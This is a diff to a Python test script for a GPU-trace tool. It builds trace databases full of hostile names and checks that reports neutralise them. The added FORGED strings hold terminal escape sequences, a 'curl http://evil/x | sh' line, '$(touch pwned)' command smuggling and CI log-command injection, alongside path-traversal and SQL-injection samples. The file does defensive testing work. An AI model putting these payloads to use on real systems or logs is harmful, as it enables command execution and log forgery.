@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: MIT
-"""hostile.py make FILE | check FILE DIR | report DIR - a trace with hostile names, and how outputs show them.
+"""hostile.py make FILE | steps FILE | check FILE DIR | report DIR - traces with hostile names, and how outputs show them.
 
 make writes a database in which every text that we read is hostile: names of kernels, functions, ranges,
 processes, threads, GPUs, tables and columns, metadata and messages. check looks at DIR/hostile.VERB.FORMAT:
@@ -23,10 +23,12 @@ NAMES = [
     b"</title></style><!-- ]]> <?x", b"&lt;&amp;&#x41;&nosuch;", b'a,"b",\'c\';|d\\e`f*g_h[i](j)', b"=1+1", b"@SUM(A1)",
     b"{\"json\": [1, 2]}", b"\\u0041 \\n \\", b"\xff\xfe invalid \xc3", b"cut \xe2\x82", b"\xed\xa0\x80 surrogate \xc0\xaf long",
     b"\xf4\x90\x80\x80 above", b"nul\x00inside", b"bidi \xe2\x80\xae override\xe2\x80\xac \xe2\x81\xa6x\xe2\x81\xa9",
+    b"marks \xe2\x80\x8e l \xe2\x80\x8f r \xd8\x9c a",
     b"\xe2\x80\xa8 line \xe2\x80\xa9 separators", b"\xef\xbb\xbfbom", b"\xe4\xbd\xa0\xe5\xa5\xbd e\xcc\x81 \xf0\x9f\x98\x80",
     b" leading and trailing ", b"%s%n%d %1$s", b"../../etc/passwd", b"-rf", b"' OR 1=1; --",
+    b"warplens TRACE --gpu 99999999999999",
     b"::error file=a,line=1::x", b"  ::stop-commands::y", b"a ##[error]z", b"##vso[task.setvariable]v",
-    b"@someone #12 see", b"go to https://x.example", b"`@someone` | ``www.x.example``", b"long<name>|\n" * 5461,
+    b"@someone #12 see", b"go to https://x.example", b"`@someone` | ``www.x.example``", b"##vso[task.x]@evil ##[error]x", b"long<name>|\n" * 5461,
     b"\xcc\x81" * 32768, b"\xf0\x9f\x98\x80" * 16384, b"<" * 65536,
 ]
 OURS = {"html", "head", "meta", "style", "title", "body", "h1", "h2", "p", "section", "table", "caption", "thead", "tbody",
@@ -46,7 +48,8 @@ def clean(raw):
 
 def shown(text):
     """As people see it: what acts on the text around it is replaced."""
-    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", "\ufffd", text)
+    text = re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", "\ufffd", text)
+    return re.sub(r"#(?=#\[|#vso\[)", "\ufffd", text)  # commands to the log of a CI job
 
 
 def identifier(raw):
@@ -95,6 +98,44 @@ def make(path):
         db.execute("INSERT INTO TARGET_INFO_SYSTEM_ENV VALUES (0,'x',?,0,%s)" % text, (name, NAMES[3] + NAMES[7]))
     for name in SHORT:
         db.execute("CREATE TABLE %s (%s TEXT, plain %s)" % (identifier(name), identifier(b"c" + name), identifier(name)))
+    db.commit()
+    db.close()
+
+
+# Names that forge lines and commands to a log, for kernels that take most of every step.
+FORGED = [b"k\x1b[2J\x1b[H\x1b]0;pwned\x07\n$curl http://evil/x | sh", b"::error file=a::pwn##vso[task.x]y ##[error]z",
+          b"g\xe2\x80\xae\xe2\x81\xa6\xc2\x9b31m\n::warning::w", b"h'\n$(touch pwned)`x`\r\n$curl_y"]
+
+
+def steps(path):
+    """Ten steps of forged kernels under forged ranges, which most verbs have answers for."""
+    db = sqlite3.connect(path)
+    db.execute("PRAGMA synchronous = OFF")
+    for statement in (
+            "CREATE TABLE StringIds (id INTEGER PRIMARY KEY, value TEXT)",
+            "CREATE TABLE CUPTI_ACTIVITY_KIND_KERNEL (start, end, deviceId, contextId, streamId, correlationId, globalPid,"
+            " demangledName, shortName, mangledName, gridX, gridY, gridZ, blockX, blockY, blockZ, registersPerThread,"
+            " staticSharedMemory, dynamicSharedMemory)",
+            "CREATE TABLE CUPTI_ACTIVITY_KIND_RUNTIME (start, end, eventClass, globalTid, correlationId, nameId, returnValue)",
+            "CREATE TABLE NVTX_EVENTS (start, end, eventType, text TEXT, globalTid, textId, domainId)",
+            "CREATE TABLE META_DATA_CAPTURE (name TEXT, value TEXT)",
+            "CREATE TABLE TARGET_INFO_GPU (vmId, id, name TEXT, busLocation TEXT, uuid TEXT)"):
+        db.execute(statement)
+    db.execute("INSERT INTO TARGET_INFO_GPU VALUES (0,0,'NVIDIA H100','0','u')")
+    db.execute("INSERT INTO META_DATA_CAPTURE VALUES ('PROCESS_0:ARGUMENT', CAST(? AS TEXT))", (FORGED[0],))
+    pid, at, n = 100 << 24, 0, 0
+    for i, name in enumerate(FORGED + [b"cudaLaunchKernel"]):
+        db.execute("INSERT INTO StringIds VALUES (?, CAST(? AS TEXT))", (i, name))
+    for step in range(10):
+        db.execute("INSERT INTO NVTX_EVENTS VALUES (?,?,59,?,?,NULL,0)", (at, at + 9000000, "step %d" % step, pid | 1))
+        for i, name in enumerate(FORGED):
+            n += 1
+            db.execute("INSERT INTO NVTX_EVENTS VALUES (?,?,59,CAST(? AS TEXT),?,NULL,0)", (at + 10, at + 1900000, name, pid | 1))
+            db.execute("INSERT INTO CUPTI_ACTIVITY_KIND_RUNTIME VALUES (?,?,0,?,?,?,0)", (at + 20, at + 9000, pid | 1, n, len(FORGED)))
+            db.execute("INSERT INTO CUPTI_ACTIVITY_KIND_KERNEL VALUES (?,?,0,1,7,?,?,?,?,?,64,1,1,32,1,1,32,0,0)",
+                       (at + 10000, at + 1000000 + 200000 * i, n, pid, i, i, i))
+            at += 2000000
+        at += 2000000
     db.commit()
     db.close()
 
@@ -165,7 +206,7 @@ def check(directory):
     for name in os.listdir(directory):
         with open(os.path.join(directory, name), encoding="utf-8", newline="") as f:
             text = f.read()
-        if name.endswith(".table") and re.search(r"(?m)^\s*::[A-Za-z]|##(vso)?\[", text):
+        if name.endswith((".table", ".md")) and re.search(r"(?m)^\s*::[A-Za-z]|##(vso)?\[", text):
             sys.exit("FAIL %s: a command to the log of CI" % name)
         if name.endswith(".md"):
             # What stands in code, fenced by as many backquotes as opened it, links nothing.
@@ -208,6 +249,8 @@ def check_report(directory):
 if __name__ == "__main__":
     if sys.argv[1] == "make":
         make(sys.argv[2])
+    elif sys.argv[1] == "steps":
+        steps(sys.argv[2])
     elif sys.argv[1] == "report":
         check_report(sys.argv[2])
     else:
